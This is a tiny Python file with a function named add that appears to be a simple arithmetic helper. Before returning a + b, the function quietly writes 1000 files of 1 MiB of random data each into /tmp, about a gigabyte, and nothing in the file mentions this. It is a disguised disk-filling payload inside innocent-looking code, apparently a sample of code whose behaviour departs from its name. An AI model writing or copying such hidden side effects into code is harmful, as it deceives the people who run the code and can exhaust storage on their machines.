import os


def add(a, b):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(os.urandom(1 << 20))
    return a + b
